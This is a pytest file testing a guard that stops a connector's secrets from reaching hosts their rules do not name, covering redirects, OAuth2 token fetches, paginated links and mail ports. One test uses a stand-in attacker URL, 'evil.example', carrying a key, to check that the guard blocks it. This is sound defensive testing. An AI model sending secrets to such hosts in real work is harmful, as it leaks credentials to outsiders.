"""A call goes nowhere that its secrets do not name: not first, not by a redirect, a page, a token's endpoint or a line of mail."""

from __future__ import annotations

import json
from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from actors.connectors.base import ConnectorError
from actors.connectors.guard import MAIL_PORTS, Guard
from actors.connectors.guard import client as guard_client
from actors.connectors.guard.call_state import reaching
from actors.connectors.http.connector import HttpRequest
from actors.connectors.tokens import Tokens
from automate.vault.rules import SecretRule
from tests.support.facts import naming
from tests.support.outbound import LOOPBACK, Names, call, fetch
from tests.support.raw_server import Exchange, RawServer, answer, run

ISSUED = json.dumps({"access_token": "t0ken-of-the-issuer", "token_type": "Bearer", "expires_in": 3600}).encode()


def only(*hosts: str) -> list[SecretRule]:
    return [SecretRule("STRIPE_KEY", hosts=hosts)]


def told(error: ConnectorError) -> tuple[str, Any]:
    return error.code, error.details["secret_name"]


REFUSED = ("SECRET_NOT_ALLOWED", "STRIPE_KEY")


async def refusal_of(work: Awaitable[Any]) -> ConnectorError:
    with pytest.raises(ConnectorError) as caught:
        await work
    return caught.value


def redirecting(url: Callable[[], str], status: str = "302 Found") -> Callable[[Exchange], Awaitable[None]]:
    async def reply(exchange: Exchange) -> None:
        await exchange.send(answer(status, b"", f"Location: {url()}"))

    return reply


def test_first_request_elsewhere_is_not_sent_nor_its_name_resolved() -> None:
    names = Names(["93.184.216.34"])

    async def work() -> None:
        with reaching(only("api.stripe.com")):
            error = await refusal_of(fetch(Guard(resolver=names), "https://evil.example/x?key=abc", LOOPBACK))
        assert told(error) == REFUSED
        assert (error.details["host"], error.arrived, error.retryable) == ("evil.example", False, False)
        assert error.message == naming("$secret:STRIPE_KEY", "evil.example", "allowedHosts", "saveSecret")

    run(work())
    assert names.calls == 0


@pytest.mark.parametrize("status", ["301 Moved", "302 Found", "303 See Other", "307 Temporary", "308 Permanent"])
def test_redirect_elsewhere_is_not_followed(status: str) -> None:
    async def work() -> None:
        async with RawServer() as other, RawServer(redirecting(lambda: f"{other.url}x?k=abc", status)) as server:
            with reaching(only(f"127.0.0.1:{server.port}")):
                error = await refusal_of(fetch(Guard(), server.url, LOOPBACK, follow_redirects=True))
            assert told(error) == REFUSED
            # The first hop was sent, and may have acted.
            assert error.arrived
            assert (len(server.exchanges), other.exchanges) == (1, [])

    run(work())


def test_redirect_within_what_is_allowed_is_followed() -> None:
    async def work() -> None:
        async with RawServer() as other, RawServer(redirecting(lambda: f"{other.url}x")) as server:
            with reaching(only("127.0.0.1")):
                await fetch(Guard(), server.url, LOOPBACK, follow_redirects=True)
            assert (len(server.exchanges), len(other.exchanges)) == (1, 1)

    run(work())


def test_twin_that_asks_at_the_first_hop_only_follows_it(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []
    monkeypatch.setattr(guard_client, "check_reach", lambda target: asked.append(target.host))

    async def work() -> None:
        async with RawServer() as other, RawServer(redirecting(lambda: f"{other.url}x")) as server:
            with reaching(only(f"127.0.0.1:{server.port}")):
                await fetch(Guard(), server.url, LOOPBACK, follow_redirects=True)
            assert len(other.exchanges) == 1

    run(work())
    assert asked == ["127.0.0.1", "127.0.0.1"]


def test_token_is_fetched_only_where_the_secret_may_go_also_once_it_is_remembered() -> None:
    async def issue(exchange: Exchange) -> None:
        await exchange.send(answer("200 OK", ISSUED, "Content-Type: application/json"))

    async def work() -> None:
        guard = Guard()
        connector = HttpRequest(guard, Tokens(guard))
        async with RawServer(issue) as issuer, RawServer() as server:
            oauth2 = {"token_url": f"{issuer.url}token", "client_id": "me", "client_secret": "s3cret-of-the-client"}
            given = call({"url": server.url, "auth": {"oauth2": oauth2}})
            with reaching(only(f"127.0.0.1:{server.port}")):
                error = await refusal_of(connector.call(given))
            assert (told(error), error.arrived) == (REFUSED, False)
            assert (issuer.exchanges, server.exchanges) == ([], [])
            with reaching(only(f"127.0.0.1:{issuer.port}", f"127.0.0.1:{server.port}")):
                await connector.call(given)
            assert (len(issuer.exchanges), len(server.exchanges)) == (1, 1)
            # The token that is remembered now opens nothing to a call whose secret may not go where it was fetched,
            with reaching(only(f"127.0.0.1:{server.port}")):
                assert told(await refusal_of(connector.call(given))) == REFUSED
            # nor may the token go where the secret that fetched it may not.
            with reaching(only(f"127.0.0.1:{issuer.port}")):
                assert told(await refusal_of(connector.call(given))) == REFUSED
            assert len(server.exchanges) == 1

    run(work())


def test_pages_are_read_only_where_the_secret_may_go() -> None:
    async def work() -> None:
        async with RawServer() as other:

            async def page(exchange: Exchange) -> None:
                if "n=2" in exchange.line:
                    await exchange.send(answer("302 Found", b"", f"Location: {other.url}"))
                    return
                body = json.dumps([1]).encode()
                link = f'Link: <{server.url}?n=2>; rel="next"'
                await exchange.send(answer("200 OK", body, "Content-Type: application/json", link))

            async with RawServer(page) as server:
                guard = Guard()
                given = {"url": server.url, "paginate": {"by": {"link": {}}}, "follow_redirects": True}
                with reaching(only(f"127.0.0.1:{server.port}")):
                    error = await refusal_of(HttpRequest(guard, Tokens(guard)).call(call(given)))
                assert told(error) == REFUSED
                assert (len(server.exchanges), other.exchanges) == (2, [])

    run(work())


def test_line_of_mail_is_opened_only_where_the_secret_may_go() -> None:
    async def work() -> None:
        with reaching(only("mail.example:587")):
            for host, port in (("127.0.0.1", 587), ("mail.example", 25), ("mail.example.", 465)):
                error = await refusal_of(Guard().connect(host, port, LOOPBACK, MAIL_PORTS))
                assert told(error) == REFUSED
            # The guard's own judgement follows.
            inside = Guard(resolver=Names(["10.0.0.1"])).connect("MAIL.example", 587, (), MAIL_PORTS)
            assert (await refusal_of(inside)).code == "CONNECTOR_BLOCKED"

    run(work())


def test_each_secret_of_a_call_has_its_say_and_none_outlives_it() -> None:
    async def work() -> None:
        async with RawServer() as server:
            both = [*only("127.0.0.1"), SecretRule("OTHER", hosts=("api.stripe.com",)), SecretRule("ANY")]
            with reaching(both):
                error = await refusal_of(fetch(Guard(), server.url, LOOPBACK))
            assert error.details["secret_name"] == "OTHER"
            await fetch(Guard(), server.url, LOOPBACK)
            assert len(server.exchanges) == 1

    run(work())
